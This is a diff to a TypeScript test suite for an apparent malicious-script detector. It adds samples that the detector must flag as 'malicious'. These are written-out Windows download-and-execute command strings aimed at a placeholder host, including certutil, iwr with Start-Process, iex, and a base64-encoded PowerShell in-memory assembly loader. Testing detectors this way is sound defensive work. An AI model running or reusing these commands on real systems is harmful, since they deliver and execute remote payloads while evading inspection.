@@ -42,6 +42,7 @@ const inline = (code: string): Files => ({
 });
 
 const u = 'https://files.test';
+const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
 
 describe('what a package script runs is what it fetched', () => {
   it.each([
@@ -61,9 +62,11 @@ describe('what a package script runs is what it fetched', () => {
     `iwr ${u}/a.zip -OutFile a.zip\nExpand-Archive a.zip $env:TEMP\n& "$env:TEMP\\run.exe"`,
     `curl.exe -s -o $env:TEMP\\x.ps1 ${u}/a\npowershell -File $env:TEMP\\x.ps1`,
     `certutil -urlcache -f ${u}/a x.exe\nStart-Process x.exe`,
+    `certutil -urlcache -f ${u}/a x.exe > $null\nStart-Process x.exe`,
     `cmd /c "curl -o %TEMP%\\x.exe ${u}/a && %TEMP%\\x.exe"`,
     `iwr ${u}/a -OutFile x.bin\nMove-Item x.bin y.exe\nStart-Process y.exe`,
     `powershell -c "iex (iwr ${u}/a)"`,
+    `Start-Process powershell.exe -ArgumentList '-nop', '-enc', '${encoded(`$p = "$env:TEMP\\x"; iwr ${u}/a -OutFile $p; $b = [IO.File]::ReadAllBytes($p); [Reflection.Assembly]::Load($b)`)}'`,
   ])('%#: %s', async (text) => {
     expect(await level(init(text))).toBe('malicious');
   });
@@ -190,15 +193,14 @@ describe('a program in several scripts', () => {
     expect(await level(init(`Write-Host "see other.ps1"\n${start}`, more))).toBe('-');
   });
 
-  it('is told to be unread where it never ends', async () => {
-    const count = 46;
-    const calls = Array.from({ length: count }, (_, i) => `call s${i}.cmd`).join('\r\n');
-    const scripts = Array.from({ length: count }, (_, i) => [`build/s${i}.cmd`, calls]);
-    const targets = Array.from({ length: count }, (_, i) => [
-      `build/t${i}.targets`,
-      target(execs('s0.cmd')),
+  it('is told to be unread where too many files start too many others', async () => {
+    const each = Array.from({ length: 46 }, (_, i) => i);
+    const commands = execs(...each.map((i) => `s${i}.cmd`));
+    const files = Object.fromEntries([
+      ...each.map((i) => [`build/s${i}.cmd`, 'whoami']),
+      ...each.map((i) => [`build/t${i}.targets`, target(commands)]),
     ]);
-    const { report } = await inspectedFiles(Object.fromEntries([...scripts, ...targets]));
+    const { report } = await inspectedFiles(files);
     expect(report.assessment.verdict).toBe('incomplete');
     expect(report.assessment.notEvaluated[0]?.code).toBe('followedFiles');
   });
